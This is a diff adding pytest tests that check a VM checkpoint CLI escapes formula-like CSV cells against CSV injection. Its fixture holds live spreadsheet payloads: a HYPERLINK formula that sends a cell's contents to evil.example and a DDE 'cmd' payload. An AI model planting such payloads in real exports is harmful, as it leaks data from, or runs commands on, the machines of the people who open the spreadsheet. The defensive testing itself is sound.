@@ -424,3 +424,51 @@ def test_the_cli_filters_and_refuses_bad_filters_in_one_line(tmp_path: Path) -> 
     assert bad.returncode == 2
     assert "must be before --until" in one_line_error(bad)
     assert bad.stdout == ""
+
+
+# What a spreadsheet reads as the start of a formula (OWASP, CSV Injection:
+# https://owasp.org/www-community/attacks/CSV_Injection).
+FORMULAS = {
+    "APP01": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "WEB01": "+1+1",
+    "WEB02": "-2+3+cmd|' /C calc'!A0",
+    "STG-WEB01": "@SUM(1,1)",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path: Path) -> None:
+    """A reason typed in Slack or the CLI reaches the auditor's spreadsheet
+    as text: a cell that begins as a formula gets a leading '. The JSON
+    lines keep the reason as it was given."""
+    for vm, reason in {**FORMULAS, "STG-APP01": "plain - text = fine"}.items():
+        made = invoke(tmp_path, "checkpoint", "create", vm, "-r", reason)
+        assert made.returncode == 0, made.stderr
+    exported = invoke(tmp_path, "audit", "export", "--format", "csv")
+    assert exported.returncode == 0, exported.stderr
+    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
+    said = {r["vm"]: r["message"] for r in rows if r["event"] == "requested"}
+    assert said == {
+        **{vm: "'" + reason for vm, reason in FORMULAS.items()},
+        "STG-APP01": "plain - text = fine",
+    }
+    lines = [json.loads(x) for x in invoke(tmp_path, "audit", "export").stdout.splitlines()]
+    asked = {r["vm"]: r["message"] for r in lines if r["event"] == "requested"}
+    assert asked == {**FORMULAS, "STG-APP01": "plain - text = fine"}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_csv_cell_of_text_is_neutralised(start: str) -> None:
+    """Whichever column holds it (a VM or host name, an actor, a team, the
+    details) and whichever of OWASP's characters it begins with; numbers
+    stay numbers, text that merely contains one stays as it is."""
+    row: dict[str, Any] = {key: f"{start}{key}" for key in AUDIT_FIELDS}
+    row |= {"seq": -1, "details": -2}
+    written = "".join(export_audit([row, {**row, "message": f"a{start}b"}], "csv"))
+    header, first, second = csv.reader(io.StringIO(written, newline=""))
+    assert header == [*AUDIT_FIELDS, "details"]
+    assert first == [
+        *("-1" if key == "seq" else f"'{start}{key}" for key in AUDIT_FIELDS),
+        "'-2",
+    ]
+    assert second[AUDIT_FIELDS.index("message")] == f"a{start}b"
+    assert json.loads("".join(export_audit([row], "jsonl")))["vm"] == f"{start}vm"
